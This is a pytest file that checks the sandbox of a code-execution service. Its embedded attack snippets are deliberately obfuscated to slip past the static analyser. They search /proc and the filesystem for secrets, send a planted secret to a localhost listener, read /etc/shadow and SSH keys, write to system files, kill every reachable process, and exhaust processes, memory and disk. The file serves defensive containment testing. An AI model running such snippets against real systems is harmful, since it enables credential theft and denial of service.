"""Attack code run through the service under ``isolation: sandbox``, checked from outside.

Each attack hides from the static analyser the way an attacker would (computed module
names, paths in lists), so that it really runs: the sandbox is the boundary, not the
analyser. Every attack is bounded (small limits, short timeouts, bounded loops) and
touches only what the test created.
"""

from __future__ import annotations

import json
import os
import signal
import site
import socket
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import replaycodegen
from replaycodegen.executor import PythonExecutorService
from replaycodegen.models import PythonExecutionRequest

from .conftest import ConfigFactory
from .helpers import (
    NO_CGROUP,
    ProcessWatch,
    ScriptedGenerator,
    ends,
    fails_once,
    requires_cgroup,
    requires_sandbox,
)

pytestmark = requires_sandbox

# Imports that the analyser cannot resolve (a computed module name is a MEDIUM finding).
PRELUDE = """\
def mod(name):
    return __import__(name)

os = mod("o" + "s")
"""
FAKE_SECRET = "sk-FAKE-secret-planted-by-the-test-000000"
CHECKOUT = Path(replaycodegen.__file__).resolve().parent.parent


def attack(body: str, **values: Any) -> str:
    """The attack's code: the prelude, ``NAME = value`` lines for ``values``, the body."""
    constants = "".join(f"{name} = {value!r}\n" for name, value in values.items())
    return PRELUDE + constants + textwrap.dedent(body)


async def run_attack(
    code: str, request: PythonExecutionRequest, config: dict[str, Any]
) -> dict[str, Any]:
    """The attack's results (it must end normally and report what it managed)."""
    service = PythonExecutorService(generator=ScriptedGenerator(code))
    result = await service.ainvoke(request.model_copy(update={"retries": 1}), config)
    assert result.execution_result.results is not None
    return result.execution_result.results


@pytest.fixture
def sandboxed(make_config: ConfigFactory) -> ConfigFactory:
    """``make_config`` with ``isolation: sandbox``."""

    def build(**execution: Any) -> dict[str, Any]:
        return make_config(isolation="sandbox", **execution)

    return build


# --- secrets ---------------------------------------------------------------------------


async def test_no_secret_of_the_parent_is_visible(
    exec_request: PythonExecutionRequest,
    sandboxed: ConfigFactory,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for name in ("OPENAI_API_KEY", "GITHUB_TOKEN", "HARMLESS_LOOKING"):
        monkeypatch.setenv(name, FAKE_SECRET)
    code = attack(
        """
        SECRET = SECRET_REVERSED[::-1]
        found = []
        if SECRET in repr(dict(os.environ)):
            found.append("os.environ")
        for pid in [SERVICE_PID, os.getppid(), 1, *os.listdir("/proc")]:
            for part in ("environ", "cmdline", "mem"):
                path = f"/proc/{pid}/{part}"
                try:
                    with open(path, "rb") as handle:
                        data = handle.read(1 << 20)
                except (OSError, ValueError):
                    continue
                if SECRET.encode() in data:
                    found.append(path)
        for top in ("/tmp", "/etc", "/dev/shm", os.getcwd()):
            for folder, _, names in os.walk(top):
                for name in names:
                    try:
                        with open(os.path.join(folder, name), "rb") as handle:
                            if SECRET.encode() in handle.read(1 << 20):
                                found.append(os.path.join(folder, name))
                    except OSError:
                        pass
        results = {"found": found, "pids": sorted(os.listdir("/proc"))}
        """,
        SECRET_REVERSED=FAKE_SECRET[::-1],  # so that the code file itself does not hold it
        SERVICE_PID=os.getpid(),
    )

    results = await run_attack(code, exec_request, sandboxed())

    assert results["found"] == []
    assert str(os.getpid()) not in results["pids"]  # the service is not even visible


# --- network ---------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


async def test_no_network_a_listener_on_localhost_sees_no_connection(
    exec_request: PythonExecutionRequest, sandboxed: ConfigFactory, listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    code = attack(
        """
        net = mod("sock" + "et")
        request = mod("importlib").import_module("urllib." + "request")
        outcomes = {}
        try:
            net.create_connection(("127.0.0.1", PORT), timeout=2).sendall(SECRET.encode())
            outcomes["tcp"] = "connected"
        except OSError as exc:
            outcomes["tcp"] = type(exc).__name__
        try:
            request.urlopen(f"http://127.0.0.1:{PORT}/?k={SECRET}", timeout=2)
            outcomes["http"] = "sent"
        except OSError as exc:
            outcomes["http"] = type(exc).__name__
        try:
            net.getaddrinfo("example.com", 80)
            outcomes["dns"] = "resolved"
        except OSError as exc:
            outcomes["dns"] = type(exc).__name__
        results = outcomes
        """,
        PORT=port,
        SECRET=FAKE_SECRET,
    )

    results = await run_attack(code, exec_request, sandboxed())

    assert "connected" not in results.values() and "sent" not in results.values()
    assert results["dns"] != "resolved"
    with pytest.raises(BlockingIOError):
        listener.accept()  # nobody ever connected


# --- files -----------------------------------------------------------------------------


async def test_reads_outside_the_binds_fail(
    exec_request: PythonExecutionRequest, sandboxed: ConfigFactory, tmp_path: Path
) -> None:
    planted = tmp_path / "secret.txt"
    planted.write_text(FAKE_SECRET)
    targets = [
        str(planted),
        "/etc/shadow",
        str(Path.home() / ".ssh" / "id_rsa"),
        str(CHECKOUT / "README.md"),
        str(CHECKOUT / "pyproject.toml"),
        str(CHECKOUT / ".git" / "HEAD"),
        str(CHECKOUT / "tests" / "conftest.py"),
    ]
    listings = ["/root", str(Path.home() / ".ssh"), str(CHECKOUT), str(CHECKOUT / "tests")]
    code = attack(
        """
        read = {}
        for path in TARGETS:
            try:
                with open(path, "rb") as handle:
                    read[path] = handle.read(100).decode(errors="replace")
            except OSError as exc:
                read[path] = type(exc).__name__
        listed = {}
        for path in LISTINGS:
            try:
                listed[path] = sorted(os.listdir(path))
            except OSError as exc:
                listed[path] = type(exc).__name__
        results = {"read": read, "listed": listed}
        """,
        TARGETS=targets,
        LISTINGS=listings,
    )

    results = await run_attack(code, exec_request, sandboxed())

    assert results["read"] == {path: "FileNotFoundError" for path in targets}
    listed = results["listed"]
    assert listed["/root"] in ([".pyenv"], [], "FileNotFoundError")  # only the bound prefix
    assert listed[str(Path.home() / ".ssh")] == "FileNotFoundError"
    # The checkout shows only what the interpreter needs (the package, the venv).
    checkout_view = listed[str(CHECKOUT)]
    assert "README.md" not in checkout_view and ".git" not in checkout_view
    assert "tests" not in checkout_view
    assert listed[str(CHECKOUT / "tests")] == "FileNotFoundError"


async def test_writes_outside_the_execution_folder_fail(
    exec_request: PythonExecutionRequest, sandboxed: ConfigFactory, tmp_path: Path
) -> None:
    marker = tmp_path / "escaped-marker"  # under /tmp: in the sandbox, its private tmpfs
    site_marker = Path(site.getsitepackages()[0]) / f"replaycodegen-attack-{os.getpid()}.pth"
    analyser = Path(replaycodegen.__file__).resolve().parent / "executor" / "analysis.py"
    targets = [str(site_marker), str(analyser), "/etc/passwd", "/new-file", "/usr/new-file"]
    code = attack(
        """
        outcomes = {}
        for path in TARGETS:
            try:
                with open(path, "a") as handle:
                    handle.write("")
                outcomes[path] = "writable"
            except OSError as exc:
                outcomes[path] = type(exc).__name__
        for path in MARKERS:
            with open(path, "w") as handle:
                handle.write("escaped?")
        with open("inside.txt", "w") as handle:
            handle.write("the folder itself is writable")
        results = outcomes
        """,
        TARGETS=targets,
        MARKERS=[str(marker)],
    )

    try:
        results = await run_attack(code, exec_request, sandboxed())
    finally:
        site_marker.unlink(missing_ok=True)

    assert set(results.values()) == {"OSError"}  # read-only file system (errno EROFS)
    assert not marker.exists()
    assert not site_marker.exists()


# --- signals ---------------------------------------------------------------------------


async def test_the_code_cannot_signal_or_stop_the_service(
    exec_request: PythonExecutionRequest, sandboxed: ConfigFactory
) -> None:
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    received: list[int] = []
    previous = signal.signal(signal.SIGUSR1, lambda number, frame: received.append(number))
    code = attack(
        """
        sig = mod("sig" + "nal")
        outcomes = {}
        for pid in TARGETS:
            for number in (sig.SIGUSR1, sig.SIGSTOP, sig.SIGKILL):
                try:
                    os.kill(pid, number)
                    outcomes[f"{pid}/{number}"] = "sent"
                except OSError as exc:
                    outcomes[f"{pid}/{number}"] = type(exc).__name__
            try:
                os.pidfd_open(pid)
                outcomes[f"{pid}/pidfd"] = "opened"
            except OSError as exc:
                outcomes[f"{pid}/pidfd"] = type(exc).__name__
        try:
            os.kill(-1, sig.SIGKILL)  # every process this code may signal
            outcomes["-1"] = "sent"
        except OSError as exc:
            outcomes["-1"] = type(exc).__name__
        results = outcomes
        """,
        TARGETS=[os.getpid(), os.getppid(), victim.pid],
    )
    try:
        results = await run_attack(code, exec_request, sandboxed())

        assert set(results.values()) == {"ProcessLookupError"}  # not one of them is visible
        assert victim.poll() is None  # alive
        assert received == []
        # ... and the service still serves the next request.
        service = PythonExecutorService(generator=ScriptedGenerator("results = {'value': 42}"))
        result = await service.ainvoke(exec_request, sandboxed())
        assert result.execution_result.results == {"value": 42}
    finally:
        signal.signal(signal.SIGUSR1, previous)
        victim.kill()
        victim.wait()


# --- bounds ----------------------------------------------------------------------------


@requires_cgroup
async def test_a_fork_bomb_is_bounded_by_the_process_cap(
    exec_request: PythonExecutionRequest, sandboxed: ConfigFactory, execution_root: Path
) -> None:
    # Bounded even without a cap: 4 children per process, 4 levels deep (341 at most).
    code = attack(
        """
        fork = getattr(os, "fo" + "rk")
        time = mod("ti" + "me")
        depth = 0
        while depth < 4:
            for _ in range(4):
                try:
                    if fork() == 0:
                        depth += 1
                        break
                except OSError:
                    pass
            else:
                break
        time.sleep(30)
        results = {}
        """
    )

    async with ProcessWatch(execution_root) as watch:
        config = sandboxed(max_processes=12, timeout_seconds=2)
        error = await fails_once(code, exec_request, config)

    assert error.error_type == "TimeoutError"
    assert "execution.max_processes=12" in error.error_message
    assert 1 < watch.most_at_once <= 12
    for pid in watch.pids():
        assert await ends(pid)


@requires_cgroup
async def test_memory_is_bounded_across_forks(
    exec_request: PythonExecutionRequest, sandboxed: ConfigFactory, execution_root: Path
) -> None:
    limit_mb = 200
    code = attack(
        """
        fork = getattr(os, "fo" + "rk")
        time = mod("ti" + "me")
        children = []
        for _ in range(4):
            pid = fork()
            if pid == 0:
                block = bytearray(120 * 2**20)
                for offset in range(0, len(block), 4096):
                    block[offset] = 1
                time.sleep(2)
                os._exit(0)
            children.append(pid)
        statuses = [os.waitpid(pid, 0)[1] for pid in children]
        results = {"killed": [os.WIFSIGNALED(s) and os.WTERMSIG(s) for s in statuses]}
        """
    )

    async with ProcessWatch(execution_root, interval=0.005) as watch:
        results = await run_attack(
            code, exec_request, sandboxed(memory_limit_mb=limit_mb, timeout_seconds=30)
        )

    assert signal.SIGKILL in results["killed"]  # the kernel killed children at the limit
    # Resident memory summed over processes counts shared pages once per process.
    assert watch.most_resident_bytes <= (limit_mb + 64) * 2**20


async def test_output_is_capped(
    exec_request: PythonExecutionRequest, sandboxed: ConfigFactory
) -> None:
    code = "import sys\nfor _ in range(200):\n    sys.stdout.write('x' * 50_000)\nresults = {}\n"
    service = PythonExecutorService(generator=ScriptedGenerator(code))

    result = await service.ainvoke(exec_request, sandboxed(max_output_bytes=5_000))

    stdout = result.execution_result.stdout
    assert stdout.startswith("x" * 5_000)
    assert "output truncated: 9995000 more bytes were discarded" in stdout


async def test_the_disk_cap_stops_the_code_and_bounds_the_folder(
    exec_request: PythonExecutionRequest, sandboxed: ConfigFactory, execution_root: Path
) -> None:
    code = attack(
        """
        time = mod("ti" + "me")
        errors = {}
        try:  # /tmp is a private tmpfs of max_disk_mb
            for number in range(10):
                with open(f"/tmp/{number}", "wb") as handle:
                    handle.write(b"x" * 2**20)
        except OSError as exc:
            errors["/tmp"] = exc.errno
        try:  # one file past max_disk_mb (sparse: nothing is allocated)
            with open("sparse", "wb") as handle:
                handle.seek(3 * 2**20)
                handle.write(b"x")
        except OSError as exc:
            errors["sparse"] = exc.errno
        with open("errors.json", "w") as handle:
            handle.write(__import__("js" + "on").dumps(errors))
        os.mkdir("many")
        for number in range(100):  # 100 MB at most, 1 MB at a time
            with open(f"many/{number}", "wb") as handle:
                handle.write(b"y" * 2**20)
            time.sleep(0.02)
        results = {}
        """
    )

    error = await fails_once(code, exec_request, sandboxed(max_disk_mb=2, timeout_seconds=30))

    assert error.error_type == "DiskLimitExceeded"
    assert "execution.max_disk_mb=2" in error.error_message
    (folder,) = [p for p in execution_root.iterdir() if p.is_dir()]
    errors = json.loads((folder / "errors.json").read_text())
    assert errors == {"/tmp": 28, "sparse": 27}  # ENOSPC, EFBIG
    written = sum(f.stat().st_size for f in (folder / "many").iterdir())
    assert written < 20 * 2**20  # stopped long before the 100 MB it wanted


# --- time ------------------------------------------------------------------------------

# A grandchild in its own session, holding stdout; the code goes on once it runs (and
# has had a moment to be seen by the test's ProcessWatch).
GRANDCHILD = """
fork = getattr(os, "fo" + "rk")
time = mod("ti" + "me")
os.mkdir("grandchild")
if fork() == 0:
    os.setsid()
    if fork() == 0:
        os.chdir("grandchild")
        print("grandchild holds stdout", flush=True)
        open("started", "w").close()
        time.sleep(20)
    os._exit(0)
for _ in range(300):
    if os.path.exists("grandchild/started"):
        break
    time.sleep(0.01)
time.sleep(0.5)
"""


async def test_a_setsid_grandchild_holding_the_pipes_is_killed_at_the_timeout(
    exec_request: PythonExecutionRequest, sandboxed: ConfigFactory, execution_root: Path
) -> None:
    code = attack(GRANDCHILD + "time.sleep(20)\nresults = {}\n")

    async with ProcessWatch(execution_root) as watch:
        error = await fails_once(code, exec_request, sandboxed(timeout_seconds=1))

    assert error.error_type == "TimeoutError"
    assert "did not finish within 1 s" in error.error_message
    (grandchild,) = watch.pids(under="grandchild")
    assert await ends(grandchild)


@pytest.mark.parametrize("isolation", ["sandbox", "process"])
async def test_quick_code_with_a_lingering_grandchild_is_not_a_timeout(
    exec_request: PythonExecutionRequest,
    make_config: ConfigFactory,
    execution_root: Path,
    isolation: str,
) -> None:
    code = attack(GRANDCHILD + "results = {'value': 42}\n")
    service = PythonExecutorService(generator=ScriptedGenerator(code))

    async with ProcessWatch(execution_root) as watch:
        result = await service.ainvoke(
            exec_request, make_config(isolation=isolation, timeout_seconds=5)
        )

    assert result.execution_result.results == {"value": 42}
    (grandchild,) = watch.pids(under="grandchild")
    if isolation == "process" and NO_CGROUP:
        # Under 'process' only a cgroup reaches a setsid grandchild (docs/executor.md).
        os.kill(grandchild, signal.SIGKILL)
    assert await ends(grandchild)
